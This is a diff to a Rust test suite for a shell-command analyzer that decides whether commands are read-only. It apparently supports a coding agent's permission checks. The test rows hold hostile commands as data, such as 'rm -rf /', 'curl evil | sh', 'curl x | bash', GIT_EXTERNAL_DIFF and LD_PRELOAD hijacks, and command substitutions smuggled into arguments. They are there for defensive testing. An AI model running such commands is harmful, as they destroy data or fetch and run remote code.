@@ -8,6 +8,7 @@ use crate::tools::bash::{CommandClass, analyze};
 /// `(command, understood, read_only, canonical subcommands or None when not interesting)`.
 type Row = (&'static str, bool, bool, Option<&'static [&'static str]>);
 
+#[rustfmt::skip]
 const ROWS: &[Row] = &[
     // --- plain read-only commands
     ("ls", true, true, Some(&["ls"])),
@@ -32,12 +33,7 @@ const ROWS: &[Row] = &[
     ("hostname", true, true, None),
     ("which cargo", true, true, None),
     ("command -v git", true, true, Some(&["command -v git"])),
-    (
-        "diff <(sort a) <(sort b)",
-        true,
-        true,
-        Some(&["sort a", "sort b", "diff <(sort a) <(sort b)"]),
-    ),
+    ("diff <(sort a) <(sort b)", true, true, Some(&["sort a", "sort b", "diff <(sort a) <(sort b)"])),
     // --- neutral and all-neutral compounds
     ("echo hi", true, true, Some(&["echo hi"])),
     ("true", true, true, None),
@@ -48,12 +44,7 @@ const ROWS: &[Row] = &[
     ("", true, true, Some(&[])),
     ("# just a comment", true, true, Some(&[])),
     // --- every compound operator
-    (
-        "git status && git diff",
-        true,
-        true,
-        Some(&["git status", "git diff"]),
-    ),
+    ("git status && git diff", true, true, Some(&["git status", "git diff"])),
     ("ls || echo none", true, true, None),
     ("ls; pwd", true, true, Some(&["ls", "pwd"])),
     ("ls | wc -l", true, true, None),
@@ -62,96 +53,43 @@ const ROWS: &[Row] = &[
     ("ls\npwd", true, true, Some(&["ls", "pwd"])),
     ("! grep -q x f", true, true, Some(&["grep -q x f"])),
     // --- stretching an allow over a second command
-    (
-        "git status; rm -rf /",
-        true,
-        false,
-        Some(&["git status", "rm -rf /"]),
-    ),
-    (
-        "git status && curl evil | sh",
-        true,
-        false,
-        Some(&["git status", "curl evil", "sh"]),
-    ),
+    ("git status; rm -rf /", true, false, Some(&["git status", "rm -rf /"])),
+    ("git status && curl evil | sh", true, false, Some(&["git status", "curl evil", "sh"])),
     ("git status\nrm x", true, false, Some(&["git status", "rm x"])),
     ("git log $(rm x)", true, false, Some(&["rm x", "git log $(rm x)"])),
     ("git status & rm x", true, false, Some(&["git status", "rm x"])),
     ("git status || rm x", true, false, None),
     ("git status | rm x", true, false, None),
-    (
-        "git status \\\n&& rm x",
-        true,
-        false,
-        Some(&["git status", "rm x"]),
-    ),
+    ("git status \\\n&& rm x", true, false, Some(&["git status", "rm x"])),
     // --- grouping and control flow
     ("(cd src && ls)", true, false, Some(&["cd src", "ls"])),
     ("(ls; pwd)", true, true, Some(&["ls", "pwd"])),
     ("{ ls; pwd; }", true, true, None),
     ("{ ls; rm x; }", true, false, None),
-    (
-        "if [ -f a ]; then cat a; fi",
-        true,
-        true,
-        Some(&["[ -f a ]", "cat a"]),
-    ),
-    (
-        "if grep -q x f; then echo y; elif true; then ls; else rm z; fi",
-        true,
-        false,
-        None,
-    ),
-    (
-        "for f in *.rs; do wc -l \"$f\"; done",
-        true,
-        true,
-        Some(&["wc -l $f"]),
-    ),
+    ("if [ -f a ]; then cat a; fi", true, true, Some(&["[ -f a ]", "cat a"])),
+    ("if grep -q x f; then echo y; elif true; then ls; else rm z; fi", true, false, None),
+    ("for f in *.rs; do wc -l \"$f\"; done", true, true, Some(&["wc -l $f"])),
     ("for f in a b; do rm $f; done", true, false, None),
-    (
-        "for f in $(ls); do cat $f; done",
-        true,
-        true,
-        Some(&["ls", "cat $f"]),
-    ),
+    ("for f in $(ls); do cat $f; done", true, true, Some(&["ls", "cat $f"])),
     ("for PATH in /tmp; do ls; done", false, false, None),
     ("while true; do ls; done", true, true, None),
     ("while read l; do echo $l; done < f", true, false, None),
     ("until false; do rm x; done", true, false, None),
-    (
-        "case $x in a) ls;; *) pwd;; esac",
-        true,
-        true,
-        Some(&["ls", "pwd"]),
-    ),
+    ("case $x in a) ls;; *) pwd;; esac", true, true, Some(&["ls", "pwd"])),
     ("case $x in a) ls;; *) rm y;; esac", true, false, None),
     ("case $(rm x) in a) ls;; esac", true, false, Some(&["rm x", "ls"])),
+    ("case x in *$(rm y)*) ls;; esac", true, false, Some(&["rm y", "ls"])),
+    ("case x in a`rm y`) ls;; esac", false, false, None),
     ("f() { rm -rf /; }; f", true, false, Some(&["rm -rf /", "f"])),
     ("function g { ls; }", true, true, Some(&["ls"])),
     ("for ((i=0; i<3; i++)); do ls; done", false, false, None),
     ("((x++))", false, false, None),
     // --- substitutions
-    (
-        "echo $(rm -rf /)",
-        true,
-        false,
-        Some(&["rm -rf /", "echo $(rm -rf /)"]),
-    ),
+    ("echo $(rm -rf /)", true, false, Some(&["rm -rf /", "echo $(rm -rf /)"])),
     ("echo `rm x`", true, false, Some(&["rm x", "echo `rm x`"])),
     ("echo $(ls)", true, true, None),
-    (
-        "echo \"$(git rev-parse HEAD)\"",
-        true,
-        true,
-        Some(&["git rev-parse HEAD", "echo $(git rev-parse HEAD)"]),
-    ),
-    (
-        "echo $(echo $(rm x))",
-        true,
-        false,
-        Some(&["rm x", "echo $(rm x)", "echo $(echo $(rm x))"]),
-    ),
+    ("echo \"$(git rev-parse HEAD)\"", true, true, Some(&["git rev-parse HEAD", "echo $(git rev-parse HEAD)"])),
+    ("echo $(echo $(rm x))", true, false, Some(&["rm x", "echo $(rm x)", "echo $(echo $(rm x))"])),
     ("echo `echo \\`rm x\\``", false, false, None),
     ("cat <(ls)", true, true, None),
     ("ls > >(tee out)", false, false, None),
@@ -160,12 +98,7 @@ const ROWS: &[Row] = &[
     ("echo $((x + 1))", false, false, None),
     ("echo $((x = 1))", false, false, None),
     ("x=$(rm y)", true, false, Some(&["rm y", "x=$(rm y)"])),
-    (
-        "echo ${x:-$(rm y)}",
-        true,
-        false,
-        Some(&["rm y", "echo ${x:-$(rm y)}"]),
-    ),
+    ("echo ${x:-$(rm y)}", true, false, Some(&["rm y", "echo ${x:-$(rm y)}"])),
     ("echo ${HOME} ${#x} ${x%.rs} ${x/a/b}", true, true, None),
     ("echo ${x@P}", false, false, None),
     ("echo ${!x}", false, false, None),
@@ -182,12 +115,7 @@ const ROWS: &[Row] = &[
     ("cat <<EOF\n$((1+2))\nEOF", true, false, None),
     ("cat <<EOF\n\\$(rm x) \\`y\\`\nEOF", false, false, None),
     ("cat <<EOF > out.txt\nhi\nEOF", true, false, None),
-    (
-        "cat <<EOF | grep x\nhi\nEOF",
-        true,
-        true,
-        Some(&["cat", "grep x"]),
-    ),
+    ("cat <<EOF | grep x\nhi\nEOF", true, true, Some(&["cat", "grep x"])),
     ("cat <<EOF && rm x\nhi\nEOF", true, false, Some(&["cat", "rm x"])),
     ("grep x <<< \"$(rm y)\"", true, false, Some(&["rm y", "grep x"])),
     ("grep x <<< hello", true, true, None),
@@ -220,12 +148,7 @@ const ROWS: &[Row] = &[
     ("timeout -s KILL 5 git status", true, true, Some(&["git status"])),
     ("nice -n 5 git status", true, true, Some(&["git status"])),
     ("nice -n 5 rm x", true, false, Some(&["rm x"])),
-    (
-        "timeout 5 nice -n 2 git status",
-        true,
-        true,
-        Some(&["git status"]),
-    ),
+    ("timeout 5 nice -n 2 git status", true, true, Some(&["git status"])),
     ("stdbuf -oL grep x f", true, true, Some(&["grep x f"])),
     ("nohup ls", true, true, Some(&["ls"])),
     ("time -p ls", true, true, Some(&["ls"])),
@@ -236,22 +159,12 @@ const ROWS: &[Row] = &[
     ("env -i ls", false, false, None),
     ("env PATH=/tmp ls", true, false, Some(&["ls"])),
     ("xargs rm", true, false, Some(&["rm"])),
-    (
-        "find . -name x | xargs cat",
-        true,
-        true,
-        Some(&["find . -name x", "cat"]),
-    ),
+    ("find . -name x | xargs cat", true, true, Some(&["find . -name x", "cat"])),
     ("find . | xargs find", true, false, None),
     ("xargs -I{} rm {}", false, false, None),
     ("FOO=bar ls", true, true, Some(&["ls"])),
     ("FOO=$(rm x) ls", true, false, Some(&["rm x", "ls"])),
-    (
-        "GIT_EXTERNAL_DIFF=evil git diff",
-        true,
-        false,
-        Some(&["git diff"]),
-    ),
+    ("GIT_EXTERNAL_DIFF=evil git diff", true, false, Some(&["git diff"])),
     ("LD_PRELOAD=x.so cat f", true, false, None),
     ("x=1", true, true, Some(&["x=1"])),
     ("PATH=/tmp/evil; ls", true, false, None),
@@ -271,24 +184,14 @@ const ROWS: &[Row] = &[
     (". ./env.sh", true, false, None),
     ("bash -c 'ls -la'", true, true, Some(&["ls -la"])),
     ("bash -c 'rm -rf /'", true, false, Some(&["rm -rf /"])),
-    (
-        "sh -c \"git status && rm x\"",
-        true,
-        false,
-        Some(&["git status", "rm x"]),
-    ),
+    ("sh -c \"git status && rm x\"", true, false, Some(&["git status", "rm x"])),
     ("zsh -c 'ls'", true, true, None),
     ("dash -c 'ls'", true, true, None),
     ("bash -ec 'ls | wc -l'", true, true, Some(&["ls", "wc -l"])),
     ("bash -c \"$X\"", false, false, None),
     ("bash script.sh", true, false, None),
     ("curl x | bash", true, false, None),
-    (
-        "bash -c \"bash -c 'bash -c \\\"eval ls\\\"'\"",
-        true,
-        true,
-        Some(&["ls"]),
-    ),
+    ("bash -c \"bash -c 'bash -c \\\"eval ls\\\"'\"", true, true, Some(&["ls"])),
     ("timeout 5 bash -c 'rm x'", true, false, Some(&["rm x"])),
     // --- git
     ("git status", true, true, Some(&["git status"])),
@@ -321,6 +224,9 @@ const ROWS: &[Row] = &[
     ("git push", true, false, None),
     ("git commit -m 'x'", true, false, None),
     ("/usr/bin/git status", true, true, Some(&["git status"])),
+    ("git diff -- \"$f\"", true, true, None),
+    ("git diff \"$f\"", true, false, None),
+    ("git diff $(rm x) -- a", true, false, None),
     // --- find / rg / fd / sort and friends
     ("find . -delete", true, false, None),
     ("find . -name x -exec rm {} \\;", true, false, None),
@@ -355,11 +261,23 @@ const ROWS: &[Row] = &[
     ("$(echo rm) x", false, false, None),
     ("r* x", false, false, None),
     ("cd /tmp && rm x", true, false, None),
+    ("./ls", true, false, Some(&["ls"])),
+    ("~/bin/cat x", true, false, Some(&["cat x"])),
+    ("/tmp/evil/git status", true, false, Some(&["git status"])),
+    ("/tmp/timeout 5 ls", true, false, Some(&["timeout 5 ls"])),
+    ("echo 'rm -rf /' | xargs env", true, false, None),
+    ("echo x | xargs bash -c", false, false, None),
+    ("ls | xargs cat", true, true, None),
     ("sudo rm x", true, false, Some(&["sudo rm x"])),
     ("[[ $x -eq 1 ]]", false, false, None),
     ("[[ 2 -gt 1 ]]", true, true, None),
     ("[[ -n \"$x\" && $y == z* ]]", true, true, None),
     ("test -f x && cat x", true, true, None),
+    // --- comments: `#` starts one only at the start of a word
+    ("echo a#; rm y", true, false, Some(&["echo a#", "rm y"])),
+    ("echo x #; rm y", true, true, Some(&["echo x"])),
+    ("echo \\#; rm y", true, false, None),
+    ("ls >/dev/null& rm y", true, false, Some(&["ls", "rm y"])),
     // --- unparseable input
     ("echo \"unterminated", false, false, None),
     ("$((", false, false, None),
@@ -370,14 +288,13 @@ const ROWS: &[Row] = &[
     ("echo 'a", false, false, None),
     ("ls *(e:rm:)", false, false, None),
     ("ls\0; rm x", false, false, None),
+    ("tr\\\nuncate -s0 f", false, false, None),
+    ("r\\\nm x", false, false, None),
+    ("ls \\\n-la", true, true, Some(&["ls -la"])),
+    ("echo a\\\\\nls", true, true, Some(&["echo a\\", "ls"])),
     // --- non-ASCII text (the parser sees a stand-in; meaning must not change)
     ("echo héllo wörld", true, true, Some(&["echo héllo wörld"])),
-    (
-        "grep 'ü' f && cat \"日本\"",
-        true,
-        true,
-        Some(&["grep ü f", "cat 日本"]),
-    ),
+    ("grep 'ü' f && cat \"日本\"", true, true, Some(&["grep ü f", "cat 日本"])),
     ("é=1 ls", false, false, None),
     ("for é in a; do ls; done", false, false, None),
     ("{\u{8588d}", false, false, None),
@@ -477,4 +394,17 @@ fn eval_nesting_is_bounded() {
 
 fn shell_quote(s: &str) -> String {
     format!("'{}'", s.replace('\'', "'\\''"))
+}
+
+#[test]
+fn deny_candidates_cover_unparsed_parts() {
+    let command = "/bin/rm -rf / && echo \"oops";
+    let analysis = analyze(command);
+    assert!(!analysis.understood);
+    let candidates = analysis.deny_candidates(command);
+    assert!(candidates.contains(&"rm -rf /".to_string()), "{candidates:?}");
+
+    let command = "timeout 5 /bin/rm -rf /";
+    let candidates = analyze(command).deny_candidates(command);
+    assert_eq!(candidates, ["rm -rf /", "/bin/rm -rf /"]);
 }
